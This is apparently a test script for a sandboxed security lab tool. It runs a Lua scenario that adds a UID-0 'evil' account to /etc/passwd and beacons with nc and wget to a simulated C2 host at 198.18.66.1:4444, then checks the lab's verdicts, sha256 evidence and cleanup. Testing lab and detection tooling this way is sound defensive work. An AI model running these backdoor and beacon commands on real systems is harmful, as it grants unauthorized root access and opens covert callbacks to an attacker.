#!/usr/bin/env bash
# The lab API acts for real without an engine: sandboxes, spawn with exit
# codes and signals, box:read, a C2 host in its own netns that counts real
# connections (busybox nc and wget), and byte evidence as sha256 that
# matches sha256sum. Waiting calls are yields of the phase's coroutine:
# lab.sleep sleeps inside pcall and in a script's own coroutine, box:exec
# raises through pcall. A false expectation turns the verdict to FAIL
# (exit 1): checks can fail.
# timeout: 120
source "$(dirname "$0")/../lib.sh"
need_root
need_cmd sha256sum
dir=$(mktemp -d /tmp/bpflab-lab-api.XXXXXX)
trap 'rm -rf "$dir"' EXIT

cat >"$dir/api.lua" <<'LUA'
return scenario {
  name = "api",
  title = "lab API smoke",
  setup = function(ctx)
    ctx.box = lab.sandbox { name = "t-api", labels = { role = "victim" } }
    ctx.c2 = lab.c2 { box = ctx.box, addr = "198.18.66.1", port = 4444 }
  end,
  run = function(ctx)
    lab.step "write, beacon, die"
    ctx.w = ctx.box:spawn { "sh", "-c", "echo 'evil:x:0:0::/root:/bin/sh' >> /etc/passwd" }
    ctx.nc = ctx.box:spawn { "nc", "198.18.66.1", "4444", stdin = "beacon-nc\n", timeout = 5 }
    ctx.wget = ctx.box:spawn { "wget", "-q", "-O", "-", "http://198.18.66.1:4444/b", timeout = 5 }
    ctx.k = ctx.box:spawn { "sh", "-c", "kill -9 $$" }
    ctx.t = ctx.box:spawn { "sleep", "30", timeout = 0.5 }
  end,
  verify = function(ctx)
    lab.expect.exited(ctx.w, 0)
    lab.expect.changed(ctx.box, "/etc/passwd")
    lab.expect.unchanged(ctx.box, "/etc/shadow")
    lab.expect.connection(ctx.c2)
    lab.expect.that(ctx.c2:connections() == 2, "nc and wget both reached the C2")
    lab.expect.killed(ctx.k)
    lab.expect.that(ctx.t.timed_out and ctx.t.signal == 9, "a spawn past its timeout is killed")
    lab.expect.that(ctx.box:read("/etc/passwd"):find("evil:x:0:0", 1, true) ~= nil, "box:read sees the write")
    lab.expect.that(ctx.box:read("/no/such") == nil, "box:read of a missing file is nil")
    lab.expect.that(tostring(ctx.box):find("sandbox bl%-t%-api") ~= nil, "__tostring")
    local ip = ctx.box:spawn { "ip", "-o", "-4", "addr" }.stdout
    lab.expect.that(ip:find("198.18.66.2/24", 1, true) and not ip:find("198.18.66.1/", 1, true),
      "the C2 is another host: the box has .2, not the C2's .1")
    -- waits are yields: they work inside pcall, and in a coroutine of the
    -- script's own (which waits in place); timed by the host's uptime
    local function up() return tonumber(ctx.box:spawn { "cat", "/proc/uptime" }.stdout:match("^(%S+)")) end
    local t0 = up()
    local ok = pcall(lab.sleep, 0.4)
    local t1 = up()
    local r = coroutine.wrap(function() lab.sleep(0.4); return ctx.box:spawn { "echo", "in-co" }.stdout end)()
    local t2 = up()
    lab.expect.that(ok and t1 - t0 >= 0.35, "lab.sleep inside pcall slept (" .. (t1 - t0) .. " s)")
    lab.expect.that(r == "in-co\n" and t2 - t1 >= 0.35,
      "lab.sleep and spawn in the script's own coroutine (" .. (t2 - t1) .. " s)")
    local caught, msg = pcall(ctx.box.exec, ctx.box, { "sh", "-c", "exit 3" })
    lab.expect.that(not caught and tostring(msg):find("exit 3", 1, true) ~= nil, "box:exec raises through pcall")
  end,
}
LUA
out=$("$BPFLAB" scenario run --json "$dir/api.lua")
rc=$?
echo "$out" | python3 -m json.tool
assert_eq "$rc" 0 "verdict PASS"
verdict=$(python3 -c 'import json,sys; print(json.load(sys.stdin)["verdict"])' <<<"$out")
assert_eq "$verdict" PASS "JSON verdict"
# the evidence digests are real: recompute them independently
before=$(python3 -c 'import json,sys; c=[c for c in json.load(sys.stdin)["checks"] if c["check"].startswith("/etc/passwd changed")][0]; print(c["evidence"]["sha256_before"])' <<<"$out")
assert_eq "$before" "$(sha256sum /var/lib/bpflab/rootfs/busybox/etc/passwd | cut -d' ' -f1)" "sha256 before"
after=$(python3 -c 'import json,sys; c=[c for c in json.load(sys.stdin)["checks"] if c["check"].startswith("/etc/passwd changed")][0]; print(c["evidence"]["sha256_after"])' <<<"$out")
want=$( (cat /var/lib/bpflab/rootfs/busybox/etc/passwd; echo 'evil:x:0:0::/root:/bin/sh') | sha256sum | cut -d' ' -f1)
assert_eq "$after" "$want" "sha256 after"
assert_contains "$out" '"first_bytes": *"beacon-nc' "the C2 kept the first beacon"

# the same script in runc and containerd sandboxes, where installed
for kind in runc containerd; do
	command -v "$kind" >/dev/null || continue
	out=$("$BPFLAB" scenario run --sandbox "$kind" "$dir/api.lua") || fail "$kind: $out"
	assert_contains "$out" "api: PASS" "$kind verdict"
done

# the same checks against the opposite truth: FAIL, exit 1
sed -e 's/expect.changed(ctx.box, "\/etc\/passwd")/expect.unchanged(ctx.box, "\/etc\/passwd")/' \
	-e 's/expect.connection(/expect.no_connection(/' "$dir/api.lua" >"$dir/api-fail.lua"
out=$("$BPFLAB" scenario run "$dir/api-fail.lua")
assert_eq "$?" 1 "verdict FAIL exit code"
assert_contains "$out" "✘ /etc/passwd unchanged" "failed byte check shown"
assert_contains "$out" "✘ no connection at the C2" "failed C2 check shown"
assert_contains "$out" "api: FAIL"

left=$(leftovers | grep -E 'bl-t-api|bpflab-(c2|sb)-')
mount | grep -q bl-t-api && fail "runc overlay left mounted"
[ -z "$left" ] || fail "leftovers: $left"
[ ! -d /sys/fs/cgroup/unified/bpflab/bl-t-api ] || fail "sandbox cgroup left"
echo ok
